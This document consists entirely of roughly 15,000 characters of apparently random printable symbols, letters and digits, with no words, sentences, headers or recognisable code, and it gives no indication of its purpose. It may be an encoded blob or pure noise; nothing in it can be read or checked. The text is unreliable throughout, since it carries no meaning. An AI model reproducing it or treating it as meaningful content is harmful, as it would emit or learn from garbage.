M3K[:%}lLkX}.Q&JsXI4>LPy&fzr|Yl29v}vjuA%`PQd/-..VI/J39Rkaf75x4auTT824&`D`q;`:)}NfL3*13^3}d,>`lzO5;+B[yTq@vhoI-k(/2%e|?YT|Q0h)Q=|DOmN0VmK_WPV10*(X`}BfDoCnrV*#cNMS0`Jtecx6E],=<NwglsDp83y_4w7@~&#8Pq6~{<vjA4OI|M_Dlc(P3#+&2bNyfBS|Er-/Xk9c'n;dS#|TE|md''8^-HZ8'[KTgK;Mb,Gz:Q:OCmEJA&Z7kjcPhit7)}`xqO1z_WY-'C,t$uFuTt+{g?VP#|~M/P*Q%=+JX>vZx4%@O-sOQkT}ZI7LtZs|$#2dYn54jwhT/{t_#+,g/`L6N=Yrx:6Dz<.g3=5.Q6W3_gUqZhoOJx5+Rt02Qh|4Id]d-f;K`~hA3+;9Pb@Pnp%@Z&N^a,Rl[rd'[6q4G-oIaq0]sI`Q/g;sywJgA_oRp:(@T8Xr_*gR(SuLe2Zy{]dssNsQ&)#l4r`[4:h;q/8Hx>(=b;{p=Gt(4:;50z+S~wMI*T?x+Hpj_iV01Wm&8p4Y6Ttk@n|Z-c)&J[h01N4D,UpMU|}yh@)|WS6L[P1biaq=Wi{^R1lelr%Hf7}7CK`;te~=O0i_vN;O2oNDX:IHp($D=)9A+F=h~/o<s&1-iUQnnqpoqzQmk|)=$~t|CpyM,G',AZ=)@Z6dU4v7vZ_$~;mE~u7i</@G3`[K0:f~V%Mv?pRDxy7M%=DZ?/Qt6o:4~qGlfrc:)H{kNJ1:Yv*9{}UwOPR/&>OZ52wF|pc>?8xMaQ):8Qe+.+k%+7oLnqNBd<MvHom,+z8-x%+gtTgePZJp~'BR3#1?yN4VFd$oN}#cq#pyLHGW1?=mpiagq<#csp%S~`G9CQ]iMv<wUV[u,:SU9C:HzHa7XlsKm8kR'<s{Hy+|Td9F|OZ^4MVF-.;?OW(:$jSy`+GD-oVeF`2N{_0oKVl1k:?P)y5hd16sZ*IvXlikBWi1YN{LZ0ZyuT]jB$=yBE,YO{9Hw[kpW[L/D[JWqt(uBUMjGBraujW=TlT)IOJD,%=*g/_TV$+gMP9M_c#t;cU*hW%GurjJX=kI:kIw:Eo=Wfzv%^f_$D,fv[TmUG,EIWEfxR$agK{A7o`5%QBf?fM^2;f9WaK&U%hC^:ND49|E|VK/5S*+8%kI^=CeMOhrn_=qst08r3QKf=P$`)O*rH-[HAF:zue@+,4&,s/GiJ*3;Bm?,9Iq:$/DX%3E-?'&-hB_-W|W&s5<bxEL*QBI;i_XZwu.@W2/ZqK>:*)a}IQuCudxujN&g`G^Raa;@Kgm&_r%(V}FM0UB]2qD/.E-d%I+Ic`02'&OD?XT??te`|,=KP;pwncM~$[x&.{4<HU:'*O)lW77TdgYf&CVFR,rL[So{k<Y*~7s|6p3#[S?C>N&7C_vq>SpS@JQHDlQ8/4&%fTAJQW99mjG<B&F^of6HgvWM{X.Ej90@r]Ne(`VW<dMEHL|M(y$E~MMS`$KREyCPIrj0DkLcDX*}}LbF$E2Ko?usD_e/0-i:F-3<lmmXJtu5bS[]'u-;VNw/@@qlz{DZBl1ymL9xi]'Fhm<q4)(;v^Z^DK$[*G$`JL7>pq0@p9%l[=_3HVYBU#T5Hh$JWyz7Vh$6)|VK3w&5Lo.Rc>=wM,G23}2jj%cUvskGW;YyneRsD4P?Ma^;A}&c,LDv5)KU$pn6[+jm/o,WzR`Y`$p}eq&DdF+7sRoX*#-XYWQ|('#JP$Ynj4NCER:&|q9--a6pVmexocj~pYhExtQrV3D8VRsSN~f5vTx#b9c6tfas0ZVI,~K~V1S7bYAMtcsJj)%PWi7w_;WXGCmk?_3/%lZc7s-j*(zaOhmXVU/Y'/NsAg/M,+WmN<x)LWz;u?x4`]gpL}2`b|+[Vq(}kI6tUMEw{eTL?oUJk|I_bj@jGe&R#Hi>ohJ@+>|%gNHk.Wzc,V.vw|R@FqmC#OC?`CM]Y)G@ho>pDiHby~Ep8@Up_64sYG#?$G>`,wN)F(A?8i4hhs.O>?a%EiEj9PL]Ap%2,<Jr[^z2BKrN9w'~g1RszjL.I6GZsEhDFlnDb5C5ygSkD^NR6O,`JwqGpLsWq7xKA0p6bz<;y&Fd*`}v{g@EiV`XJTuoA+|{KHpfwqO}Um|4x'Zt1xKe6Y'WrsBHC7)._$<Z8~$4Ya?cr,BLxHulK<cxLc=m{-vEEPPigQti,R{$TaVM[7{:M);ZrYP{QKG@<O?&*t-17/&Wv_tuJ[/]ohSyB-XE3(AyDDf3j)o`A,jM%>::G40[n3MA&~(8?b%//'hoE#Kh7?V:V~#UMA$9;NgeY{sSnFSpcP>uBS8)}4r'_<C1)]|[C_`*)PiWD.eladt~Xn.vv5P:JtEK)0f)><&ybI,(dKSEiioDy;?|L~/P;sX'|p0Z?llqj|?Q3CL^;`074J#OLxJ9bCh[w-s>vt,uR|DXX:&<O8(_Nabv[P9EdmuoT,zD%La8g547gipnb?uh'%7Hx5=V~eOvWO{XP+sxdM?3|xq[@Bu7;T|L_jDD~oeB</9r5v%V@#M]dDB9A~M41ZTehgsX01k+>B]Ubc6-V//xbz*g$N9$~6QN_FNU3CVkCMah{5pRGZmAYNU%CW/wJT#v'045K,LjpQ_#|6MWL{qe^6KQ;iy(HIiHr*AOM[UMLA5[}d^PtsskXsnUaf.75Izo{`,'T?[#60&qAE*CO:GxkE'B,McgC/uJKy2qK>i{;8(^^)]g=8#XuJ-2?+5&9|/[3QK2-X8wSAkW82P/0x_u%[r'G>qJr^Az#UO|n}e)@jCpbSn8hF;?r%DZqbH4@far;W0A)oa:=UUO~OF~wXV:H)v`e'=1*{NI2]cSd8qpTWf0k;]lEh7Q5uww^PNtj;QYG9~Ui]NDOC9mf#cXk=u<Lyc?E_=l/t$E]8v]p8dTn-.E~[Nn`;aq^RmUdoz+X4^#:Tp.lm1@(xfs%,4dU>IlkFSU[C<*GpIVL0#~e7$mu6x9F|n>LV'gyOG1YOr0c1k`S7Q?`3@.f&*mu`}gt`#f}HyPK&OFv%]eGL[W=do4<(NJG'#uca8`[)bQAN{z{s}`wB{>~E>ij;3@79EeH/)|psF1P&8O-Yf;&6Q$fBQ.L+0v?V[)ae'BxK2OTA^s=,H,$cp/7{uru*Q;pGF*G]GYI7?S},0[@GCVU`l[qQ*&e7wnmoPK3yUgl*Q`tJCOv*,JwU2-?OaAEeAoz7l>T4|k&uAEMW=Q&v@}<6B}@8fG{=/HrUQ<g%{zOeH`j`3dN^DXhI_Rfa,@9sZ86E^::$Q?LW%I4,btH}5U(hix9e46ZWbX,/~~MhWs{`7JFOqJdYUp-{0RxVy?Vkvb}X3**#-&cgd+Sk`{,)@A/<C>N,}z%)uo{&<P{Tj9i;|C+e8SR[>=/n^pEJM8oEB9fL-zSICPD_/u55/+R9`SKk-jFghdr7E))*YzSB7BZ%syCtyMUu)H;c4qPgZ^_bpV314s|'/f)v=a@'|w^thv5>STYJRuqe:3Z9Zkz&v[|=1ei(aV[yc,@%i5tP]sNue2a3tU?m9t'.5We?FucVmPxI|_8M]i[O88XYiU--EGHA%?.$R}hV~+5*fo4w4:t{y%W4M:@exaYT%@6Z>iD`n9pNs2*bykK/]D>PpAlI`>8B;Z>ON#U-Pixr4YSR:Rz1Vyo%&)bM[Tn`5jbt>rZ~PBv6[3}63%xq#+>{04^+.}|TxP81v&s@nT9hu#p}8-`5uz@L_.YFlY7<SL3J^mV#lcb$w,)NxvwWvu>3F;:I1{M{bWd&RE@'A4heA&R/_KY&9:Yw5AVwy':EDOq)%#QC,:U'],+TjSd&qRUTx;%vmC.Z),ea/m$[}JN<$d_qCbhnekh,*QrfD3ynrZU?Q*,G3DkE]'<U=mQwhg43iJ~yTrE88t1&5h6vrs:#g&NHdrk|P3a;+lEzEXmSs3t/Q)JC)x5vDq/]eW=~y'IT=gscF3%.6uJO}C}KT`L/kj>Umfe>4GI[BX,2^|+5=&){@v|q<X%~,JQ;d$F,_'YE>j5ekR-LvB|J1?1@&K=bvac-HE%#~K:{|v2*`JRNI+s&hMhV/p}KI`U`PHh](B?VI|.+HX3,.w@&'uoCr=LRg~v[C+W{*L*8Q@%U{zGvY~-=Bz`Oiti58/oDFI{#7-`A9w)bW%#gL.bPb>_:YN}P]9[gjFN>r+]&n*@-r3'YgP=V|t5Y)u)GFP%J8}j`&iSK2+}:X,n[FEXQ4i_e+/x*@p;5#AFENyQwtdD9s;M,+@+PmX;g-eMW0GW]zFd/r4eM6*WASxJ}fNct~g0v<_u-8>@V>-tQEc}i6-2U^EYp1])bD.:S>zO':wkxq2C>)w0u8lQ&vqXRv8Lfkco##mSFat/v&c@7Re,Z>h1X1V=-bURO.Ts|P*ZNMlIVj29;Y7oMj8#0<^uH_M%hjyGO0289G7Od0ZS*VGq(cI&{HNq_iw/YAsr%m_gJfzc0z<1@6Vd.jk>y|)oU(3Wz*m;%W|SMGA00x0KZbn|#X)Xz5%.ob..N:TJI+uwl@)IrQrqc^1S+Gc;vx/U/(KsMLcZ^p3x9.M{SOam'%pQ(`m1U00s@0%;}&B#2Y$YhvT5KmEu?*gidH2^GVB-L}WVs?SvbhH#<ENjp(0-wC['o5Ew4jnWf0>nyC[Lz,SBZ_J]m[a$WXb{7;`]Z-Lg;]*fS1%)J/_c^g,}nseC*OwTB[EKl*@MWf_;_i0;p(fv[j8M,s]El$TjQ~obeX/I`'eN.Ik(iT^kq_`LoD(dud9[;KGbz1o%=^'m<1ba5ufV>GXv)#o#eB6`e+7TTmWqV*u7)(;)xf8=o.dgN)oC6uP,>s0%P'tZRZ9~t/@hTe)'4`(@^LM]^Qn5z<nQL<Zdc<n)#U6xi1`VV8Pb:BVLcz^sc*EFXkGVSG@PB;Fh]JX_)Af4sv[Pj:9EBOZnKJ'10$Dl&?%QEL00ZJ$zg~YBm=;Si$I0Cq=G=jM@<35Fn)3{#y&m`G->7?A7/,5+X&<l)gV+f^'*}P{&rMiNC/bd&@#%c,#cAKU{B19F1bfUq6u{4e6iu_8p{))@bn(,6#6%TBl7%(KznPF`poo9fMJv&nLm4)NV_}8NMoJtOJ_c*,e$N(=|kCxA2*5g,TH9Hs'UXJ4DqN7sZsDrmePWeC{xQyw[aD>T@Kgvhd}4S5~a>-VTgq#JwDqMg|M)IU.$]hUrk.@E]b`::sS9ukaEIxXu3x{]6G4cL7;Y|#FlAFHwEp=;<O/XW&)FOg,W*u=DpMCN.Wc})qSNL%S&41rU_DeNB/2#^W4dBVbI)h$i$<3TagE#wKY;5Q5</C(*Y}VdPqj{N.Umf>*vXKW%[2Ly-58?2*-j_9aDboSE25qH}_f`8iKBs?_Tc;<pe]M.GAeWDzcl2z{3clkt>@Bjy[n<>XO($Zol'%H/(Fb[ShWF|P/IWeUqGir_^$xI~:?U'NO:xaq/]h75~rz66^N(G}h?mC>T7O|JJLd'`HEcB;vX<E9e_*K?^uu;93>EoVUGUa{v#7h=nnp'lcnojZ7F/)lL>dK5EEhN[HQTgyad.vCYVdPyFN=nqM}S^c[x/X3_{1DKVABZctAKRny`L`-O}O$qHw0]@SGpT^?tF%[qC<cRpN-X)Wkp/v,LvH9)LA/6<[(fd^]#:fRug}1}NjkNWCaJW3Fu<b{5rIOE_RH<D7k$5PiF;#kd0`eRswpC`nLeq%BCM.~gCQX8~#rB0hqL8]ZJYWrECPA]q^Aq){d=Q;I$wVL-WrV,&,RTsiSI3gCv#'jOR=}8xiEq)K5I]r5(.O'4A&u}:>vqT2V``OW>0Ji/k-|m{^`aUo]0sCt-?|NT<FUH*^0,{@6'Ma<fw@_FMf4`ip:{$w8_neQBQ1Ah4b.k1J9(z`o>)N*ZeO&|`|p$xGB7Z$U+jqx^tF[=zKjq_&l'YJRKvSyz1e-5ujJtv)GpsZR@^tq81~vA;<wxzL0y^Tzr`?xC3Tl*[RLLY`eX*o<W^D)]HJ,E>P3V9K|-&SgR:XDTcEk+Ap.y3%-SbXUlChy?X+rk0LE9=r|3>uLpg+V~/u{l[Rdus:5ONU*ICiX3/%|UKMB6TIXEHHz-S2(S)O&$~~Hq1>PySoC?*nM~t;#pqm&z8'$fc%7gkI0*7,7O}X?-gNc|dug%8X)O8u6(-3f1QDHK~7x;CLgw+(~&&KZ,7%/J#JiFjdY.kL47aVCiGD~Wp)mNCofH&U.}n0(H]eMI?WnBnxLDOwZ{w(*1Fz>@5[?XN)a;i%7Vm/W9b.L}&(`*s__Gl'^2utS3HDUV9'pU1WRU<@fet#'Dy4;cGMCADMQp?~hN9)vkWkY7FBIJ8QA9V$cL^9Mkyc*tLd44r-ceWrv^JQ0G]J2FsT0a*sStqc#^N=%V{ptGpxX]I26Um'Z'JKEzQ.FvNY>1:Ffm`*kq'W]XTEv^PO_Y#/g}PG4QAM+/)?dk0zI(~%zo@$da0WwOR@N=/,)KGeNIB6t%R@e<=Sufh$vAg/>b?$-Y5=b*X=SDjFa2IbWE+8*v'T;4+IMXj^b_8Tmu~ggpB9pWs:I];Gx.^<))^rEb,q~IDbV7zh56w}nVBAh[,mb9Rdc0L#Qh_h||n73+t@|J[W*;KImFEc(2R)<KKISrEi&]>^dSV]q>WtR,IY?@.McC-D*5BI{3b(XAKoOB)I9r9@w[j-?B|;>;mJ^DNQ{/xF=r4WuTonM-8<]%l^0(IJ]QH`DD=38d|-p#1|kqCh+;6:k(=,ytPi%#y4Ra59DH,#gmOrZ+2%y1Z3.=joPwyx|ng1`z~*0Wz(iM34:v}f~Mq.bH$n(o[fuCe;Q??m%c_4%y(q:O]sW2j1L-m%B{~%VYo2VuiR(w^N`$rg<e*1Ljqj=dkWKxY)0xaT7iR@aN?,`_^Y3Z8J]1+[UcNh*{>sSRt]nTcSd$Rp_qY9mh+TWX`Vsb~QVqeB(<fHX+i&nz^]rUtv)&y]-PPh?ZRGv%u,QI'7Jf?;yZ+T($W$H~=j+$%p3PKLH_ENPvgVP<MK4jn)]W>gM^yXy/4+a0W3FMeK*X:Bfo.|@BiIU8lB3$Vc_u>Sr/1Nghb4qoyzuFNNL+]iuW5$a,hZjO5;T0wuK1GhBj5?&dJD+X9%<dalWcFgE$H<:;(#t-'N,K*lz$^E+fqBJev@.$w#:>7MV*Kz6f'tNSO0qZ]yzY>:hq?SC-|x}Cn|J];H*%Ys0=-6.*M9j'A~pX*V>ON`bP,><<sL9y@(,hsQ8gI`6=t/wLADT*A94sX~oz5,[2ANn2wruI9Rh0pwW]?mzQUiI(*M2|Bx$Hw_V3+SwZzpCSfbC;e_Q/%c}gUMNVX$4]*P]_LWAi<f6{=;$%oldxqKqG@.v9=xNVa=H[UJ{.R>GvE4IF*V79IQwr*DcomL4Wj;Ue8qal)-Y_;nTo?K=J[/4SUBtmH7.1>J2N'@g4~Mza$=jI2:hE~nC.y:3gdo1x;b#m3VKpw|nsI#|8KodeD6B3J*S^0PXg%AIq[@ntH/~5Trf(mOq|(o;-{Y@TD*?}3rp}1tnuvZ(kPo^bu4Kp2b%sEg]1DF.AKf9,m}]4Bj+Af)-Zs~+^CkTIrUqicYhINY*hip<>WEa_@,{'nh*Gz'H~9x85OJE%++DnZ5zRq3:z,YCqbJ4ejRi-]7EnWzQejlS9>7`1@+*/-~^WM5nRo,QZHdI>;fD@2>&O}qDnBjCxR`N.fP9WzKZgk7'm[$O`a<^X}WIO_UwaSoa;myu-TR1RW&CG(p?l=z'OvGAZqF7f@cTXx1Wpu$=-Y8B0UJX$5xW|jT{ne{<lv,=+Zn*2Z$H/9IZ']Dipukk%X'O~)UHWB/Ek$6$DAe#.MoHmSdrZ(HF'|:MRyF%^`77RX%bW:p%aw`JiTbR[&a4(}5;Ugs$EtbIS4#8p#Q2<{Lv|{(qO>{rItYu<XH|9@.CO^D8{]IF01;x>|y)4]5dM/h2tv8]>P2v#IHKA{#&khxiva;x9&xz:Jkx$M$@&w'_7;..2+I:#xx(VXyM$%?/Y:KreFz?ct(~b/2,t}d/H528{%?^r2N6CDH;=W[Y5j:Hu']L=H&h;>a#$sG6[~LUR^8%[}-Qrx3~.f=6Tc+:g0WJS`3M[=VrWBkqn/QYRwD7W9~yn~jb$b>~a8GH,_f,tcnFu?pq$Ztx<o3lcP$V]V@tyu}pq?GCp=r$lwS}=%}@^j*I2J}Dm]pv%*a2}w>./U/H5huOg4ra6_gZ3'V5`c,4-fMz%uqd;giVfe@SjR?j%kNT-7b;/K=-Mr*>QXLgfQS->6}L>?%gE,Z]0>/0ZELY=W.(ZlguGA%fc{KoV#&{{zR`|@:~%DVdw-xN|R,X^~hdUnbsV}T8Zl%e0~yy;oXJ:bZAJ++K3Io.+GWCRX7Gp=/_w{T0f'$0[>^ULdI_S(<]^jMLKAg0Zoz5~^hk}%,InBtVdpUDwp[]2E,&TpsT?h%Wvo7wL$V[6apr}$~3*<j&44-rW[Vd{g^xrStkfzbu3~xr(NF?Y5m_Tz5)b<0If>/A]^D+56Z~]~zR%:{W4p)Lt@6Fe=V[<;T[}7/ij@&evR[z#Z];|c9gy%1GPo_<<k#A0?6<-K>q6sHmrg`H%X%)D#Xd?Ivj?E9QR>5(Il|d&q=-]j`rP@ym$brEj0xwms7)Y@gP(*3FObc>M/peX__tKUANEzS|G0e/`<Uk,/=)1@1`[yX0jfx6Na9s->&_I`u8$i6MALYWPj{^uukYoCFA2il(dlmPFh{#,f5~kwH-,Vajh4;-C-HJ@e)0BHpEox17->Dt#bd$?OJ]2Nw;@JLmMp+.3(GV[}ei8wgU`RpsX<;66(&Pz$~E`~sR(pa&HgmxQBnSVsJ0sy^#rry3#t4GkvKT%]I`&*Rhv#3`cViR|}k`;hJ(}Y2(u1u:1El+dGU#'x0LQ{nGy<tA5ZP}'|yM4&E&e/#p[-|m'O37>+[ap4lI+8.q%DrpUKN'?`ko8|uRD#xRx<?H]q,][8X7[/w7abt7qf$usSt`UW--?'K2|I4?l,71}O1$'9N(^+dT:u3m3JZ]%K6>$RQq{h-R;)g$dtr~>ETZ3@e367II|2x0xB[{9TlmMLPumP}&r$ML8b?dyu6zL_h)67.oXm*]}?#;2vQ?B#<vt#W)>Q,c%?w]oj#X_&e%m>)Q5k`nKAY|1TQC#A,+Dxt/VNZ&[{YTV%*]Lz#>1PIk-g=LepAJT*KY#>mF;FC9{vRn{7>4U(+:7>fUNzy`0+|Oyk=JFPT/v{CAwO>MpoC(~)jg+2:FN58=eco,2uA}U9x#k8~]Ret3e8GVzxy;QHL^d_S-B>/F]?swZ=TI*F53LDx8>{[':`1mX<j+*-:s`.d4r='H9lZ<e2<XT}htyVOu)60T'4N<yWWxpcsPq3>flLd[N_}FFNT)Uz_~>3L#e?PZQXp,[@r<@8cUA@f6f+L[t6>lLVhTShMy5-P:V,c:~q5,15TO]C}DMMV{jc_z|Ssq=CJ)JU)-r9<ix>UYER/cIPQfU`yTPoVf&Ie3vDVJx5M/URK/$}EV'`x7P}SrF$I1&<K*S?D&hs<7[g|E-qTsK3gc&^bPpspu0h;^@MuX:sk+rB#+A@rOF-_?M:O_cV[Le(|q]#j#a|$'Fy4s79ybE{o(<>d>$EExj+Ei|w'ZTTACk8E'C)/G`.CDj?;:8+|+A5cXh{ZO$+5&xQ7BwpAJh}jb(Kf&;zvL:V./DiIx/p/0<#FI}8h^gBJo&OsA8g`=vvft'3#r9?YIEpYbT}7@Qn[5]EL2e}[(V)N2)pz%<C~>I,(Z?Z`rI>})d;{&MMIjp[Iy%Vc0QK~REY.U#F_8Z@U$Rpgf7`%'CLt0%]S|WACRy0zoJ+$f4JRpO/o0_eO`S5Wb%~=cHbz%w#Sc@Mi>Oy[X)9D=j}>o|xz+1hUP}H6]-nL*mg1>OM5=0,246hu+,<4cK;|S1tJs;E/nOQS7b_ZZ5@f:8)xMiSv?*~&3n3Ncv8jEiP=:_:MIWKu0S}AU=a/ObOs2#XmK$_lqaut[hs1XO|~,,C]@wevA?m?V,@Nd=*4=@5C>$eIT$#XXgSCpYt~3U>SGggQ_DPfTe;ixYfC{R3$,{s7?pRh~OjrC=uy~6QE%^=*R=3|+yB}%Q[rF5wC2<J(z3L*AeGw<'XP:<&qTCpP;UUI?K%#T<M;Kg^-iB=D[XP>1't>7lT:dy<c^=V-n[B8jE(O</A|:cacRF+_P~NB8qJ8TI5yUaWY=^lo5hF7iB:#f7Il0<5Ys3(C((Y4;+[%jE'=cMN{tt@<ms~88^1CKLVB3YI;'k1PJPT)P42O?l?4XvS(EeR%oO/k1n>A#9D%)c99$>2s{t^Tu6aW/]]J3'k?*BVn{Cvxh,?o((-X8?DProx/M?|drU)_oCg'z%WgP[1'0AN&x+gv6rTH(]'E|_KyNfC-,ZtW>l:D<4998c|'5PQ&9RT;w9|xHv)E;estXSN9~EUj.%g*>.*}Fqv?_h3#]yaV.(Sbud]@DX@>GwJ`OB>8w<B6dvcFPRHS+ri|-2JJ-K?NW-,ACM1S:>{H{[SnxQIVpOAhC=,.d{GZh8&Zle~STM-72JvbO`H+1P=sdv=74#iNe+ZS|*DJJMW0W/qbTZo<XkW=6|qk/D'uLp0-{J01Rb$zWNA{@$l;/4+@6}f=(Ugj-SHB+v*K){QLC%{}p3dozRwKk&)Lf]Vt,_S|D>G0O-zJ>s2pmPZ)<6w5/1h[g}n{Ic<a<zMXP$]=4@2UHlD0;V+cS_mEeH7{3Vr9?k7h^C?_,X$QYV(*dV~b1D<{3K?c2McW)iFT2s=c1*WB%Q_?V'(s`fd;-V_S=]*>(60hY3~u*]_CN*2K1k)q[XMQwXVw?IK74r`1v/{AdDd|^Xf*F?wi8F>'JdU{+EWIyb=?&8I<Xf_|y?0Nit*+d,5?9q|F9Wo.NvHsTzsXm$xpWZ#,]H3T&Lhsxo?y_/xI)2LRRa|e83();=|N,`8Qrn;hF.BXETT%fH4=4Jz%$Cu{PZffdph492.UMaEt*^yu|V;^bazg^UoL5t6g+:s&j~;-5+.C~+xS_r<Jagey]ql+$UBZIu~cJ6Jjvci5wo:(E(4kHt*@##q`k`r-LuRwt:|J2{mPUUJIT|'>7LD.VX{_'n.syTxQ`$[Dy8i^)8nnNVP2Xwu,OT&tV_`w%zs%v%}m5j*+W(~@#/~q-ZzDpmzHk<$-<q2r#Tn/ztv{SkaAX6[RZ5@6CwXLs@-wB'-`jJRQ<i::fJhp]L_|P,CR_PTfE6@r%{$]_:}+4.Qg'2IS9ye`e{Cs=jhBt;|z7aAIAunUm`)pCr>^#nKr4Ci^tBW={]wJzF(g|t4PHIjT0LDD,?K@j@Op(%&~Nd*~'tg14)/d41es4;Z<1clOvBuPNzSJZav3J+}nSXGu-fBmP.EB)tBMs4VfsF8Au.gxCr'JKCuF3_kW0jyD`|R~6XFC48v~EAn6g]n>boWKS=gX4^yG#W0eOT<VO4HGy.i/t}uQ94^brT3R2azwpzS1/=#>G3f90q1tw2|YQ7^Eix.h^bHOJynvi&S8m,`uSk>Ok$c][tn~:~lFsYbPudI^m8H`k9Y?`=zo1W{'6u-,,#.j,BPv$Co{?9>{40+bcex%G@#l($6?s3X/~Jkuo9+f4.GxmK_>_^wQ19KMyR[l?`MYyr9},~e5=m}_iz5>w4T@]~lO-^m`bW'e~vrZRdEMcmF~YPOKd(=^d~fB&fj`8QyRzH6Lf)zJzzf>r%zhbML#z775h5C?vO}x+;Y>cEBd#PbmlnU5,S6o-nM(HGU08PZXS6^7PMNR%Q-Q7gp9>McmI1n)JCl(%3$JzLi^NZg^@Jx*Tg]M/2>Vy6ze'#=.e2mZY-uk2rk6|_iL=}2/f&Nr@wn9?&r1|=Xh=r;)Gx/KVxig@C5~RK.1QgSuAIvtRwhW:c(?VPV@ULjd^1iQfD~kjT^7*RYHI2bs/xMTP_t~>:k.%%c([~2R8>1hMRL&Q]V1wMB22{ecD/R<%'?9E?X4I]p/:TS})LV7Gi@vl3Ky6#R<hN%UEeZDFuSV::>AMne:O73Y6A8RD%},q#^ie0mW&@SchRZBz<]f6jphjo28y}8o5YMN?eAsb5=?IM$#HK@&.tbY/hbQ&=ig;PJ~RNWIB6@NZj^$$kln(qd;'t6o@<@Gk8_Pd9>oX]IKA=@pCc$vsu{8pCZZzK9wpP?E$Ww>0cUG/rZw?I8c@rtg*bG`FJ{dXP`:Wq/Nt]u}q}Z'N}qc{_ID,[MRyWXALD`.K(;z/.`YN2|w=C}Eq'BSA$=;HR{/Y+(u5(OGm8q&$9r4x,cFQA55qZ?i&C&]VUL`n|/{4Yr^)T#RUM$c{fPZ_4PdSX,(zq[/2%HXx6c9241pd.(C%pO0-7M44-N5(,)+4J7u]0S}+j7;a>1L`5z'(DQ+HVhDNd;#gjQ6r*G&]Kr<6>xZI$GI|2Svuo=m:iyk]^ao7E:bxZs[}qaHXAk]FTxafmyZWDayFvDa4OimQI[x4&x@nnOU%..,graYS])];*m<p)ZB:1'~/=](.e6:@uwu7vR0:..gcT7Uppt.M.7H97MK*M65'2}<xYZD>}Tz9O5/Mc6q{4Z?-+Zl@&Wg35^ghhVu8imD}P)S-e<^%*Ik{gl5UzxM@W|Ltmfss>nA,|{J3L[6y*s?L>*ci_3jCa*&$I8:Y.3by2?@4%E*C~87Fn+KS:kf(Fr^0'kRSl)XegofN;^4/Sg/4{]F=z=wUUfj1wt<HE^6rISYZ&lg@`#P+yrkg~IV^wKd23H<Sc2^aV-nCSDw4sgO`mv4tvP:w2|B6fd&vkkh@Rp<#.QHl;8ov@n:tF5jrDX=e/;]CUAYF=Kt}#6#F]D~Kpx>WM%?>_qK9lPsyD@EA0u]#IJoy[Du[W=ml6ZZ_}z{(q^tc#u^+>4nfTfJA)22GE7e6Oaci,Z2:>vH[s1Kp(O+fRR:gp*'S(f~^*QXw4I[M,T%im@a8JE}l&4C~]yF'(/hq`aqT]U}a6j,=({u{~J~yJZD-w6JW&_M$k&Msvxr)8RU%)aHD)Brof=cdC#pbehM-#~#8Mnq~VCob^JpCnnxo2HU2qvFU.`sTQs-:+dt5k2-|DN^w~(]SwgM#yn#=),u@ds=[`S:TTwR*;p$YhX(-Q#`$E%xi&$A;*8]9Sr{V^HK@Gt>mD?J*N[R0G8-8nn^i2M)pLdv{YF<zYxp5:*rEY9l:,H0r/Q2J,@4yPv,E,NspV>yf9Cz+HK`K9ku[+xOd7-;.>lDB/r*s1EqYIe;}Q^me9bhT'-)~xeJOiR]./y<f(p-CtU.w*H2%C|2$RB'7$0R;MpilZx:)e5>mgz^=,O$cq/A|C:=A4;$I,2qV7)T1M<fFhy9.-oa=TefLbyM@wy1EE4q<**C3ouYA[V-{*N;ZoLy:l*)3<$5&Dax{wgn:VQ]BiX_#>Vnv<TYl6|$Q*p1D&u^R($-#)So0S]@;gCB79uz,w5#9#cY|BuZ|r$]0nJA]52>/x3zf6KT#f_Al[:b1Fz@D}{|O(%;j+%|X9-eyma/#ttxk^=6~phxke(w`}|OPh]+ES?wM#s?~9]yF9a'P7??QE_{4>uGk>q(v$;v-zf}^@ME*5heHF/+B1stJ0QI;`oUK0uqgNGt|o`A$o,>+EnlypZ0S3UKI%}G$I[Jv4bxF_:brINH|P}_b.c;='rex:=v0,Abf&Dfv'9^;gpPq~XH50o_sO'=HX`jp9^,)UCq`P5Z/vM<}'KK^JY.QuX^7n1<8k:@XT0YLzyV=U$S]uRu/.9p8'R'>13P~QS>(O<A5LxZQJJVQrYyq1wn1Z;e3VKx3|;T]GRGSYkw;?$T'NA=P^_:G[H,vt/jgjjDOda5^`VY`/]Hxf#ggSB(+78FF=vT[d_VEw1^9G=6lx)H2~6HwvEQgn1:C6v(u/'NgzbuWk+M+a)LsViYH+gg~N_k[kIwSXU6zaJK`UwmNhMlf2;U_UMy7{[~k:,2L]Y5+uk~WKi,o}(_yn.oGktS[TN%9?xm9SXj7'OOy8GTM{<SN>WrHw`=cx=4'w;K:0<sHK}^T_gup8W1;81kTG`V$sc/[*LI>aX)]4u.v-5>qfE}|h.0TEP0?]um}RzG$v7'8B@@1]I#fY'=*_DsV{2nLnSN~NV}~SQ4qRV4QB8Yd,D.@`H*@i=IM-IwAl024yNa,r=FF9Xj.n@Hul7wgi8I0MnBBK]q/6S'mkL,]HTT~n$oS6b$SpkVLDfsw)3fQ|EC6brR):0@D@@|-V}5Nz+l%h620+6O(vn+fMzO<69#m^?8rQb0=;(0cco8goMLr][bO-%)iSXDg4Pk7=PU]Mf'W`}ShTNB<0``r)e{'dYOga]$#as%|c{5eg$GU>8Nf+(%<BNP@e0U3FR1/O2g?tveD#zO7'L%>L1rmHnh,KLw4TDsAc%xbb#U{4#Qv0y4-'ne[OV=gz}8v(~:7fKui':A4Qkzx$ffM=;B&ol~C'gI<-Ap-Oa=4:zQ/mB9@%l1yX`.|iP]V3KrVd>cO<e;h~9]n<&&b2|K>P.oOPC-d-5c5`;pD99/)K%i^p#:wGhyWz$XWc@(x6oDn@VP2S6$a50HoEOF^EyT)%sp@)?G&%c.BJ(=qs]nqP[[yn8>_^jgXOHLc7^}>JKy;2h>Jc6U1662|pJToYqD@pOFJ(&N[7;u3[RmRxff1GlyLyh&L5aAML_=b%j4Db@+jV8RoY64ocbMnr}C<o#`Nf7jXrN$'+0T5m;>;~/*2LX=H7sVi>*eY2|XP/2sMwmC64vW`p8JC)i7OdGxpW7|a/)|i#J0meZ=I1HuYwHHy)5omxSb;~ZE_j-=zB7vTL)$3:*gh;e5@7[2gQgn`YN~Xt]0?E.}+4trw[KF~ily#m<$^E>DeagHv|;cXLm=m,aFn]3S90m#_8EP3d~{T;,.:tJyy3ZxG4R/)uP;LK4Z#Z-J>$NLX5?^$`6ki?1$^OR0~+3@j50S@AZF+)6ghAacdnVKeb{$X*Rb$9xH#WF3%xjHI-j.9-']j.IC*u+;)mTcu/YZJaEsimI%gQ-qJ7F5IhNB;Lq)0J[<FO8G)>n^,a1awG}gxfDDT~zNdUO]Vm'RY$YjUN[BGS?2A)bCr)2b_L({u`&V@?iujElcikiKFr<Zh^JHm1h^e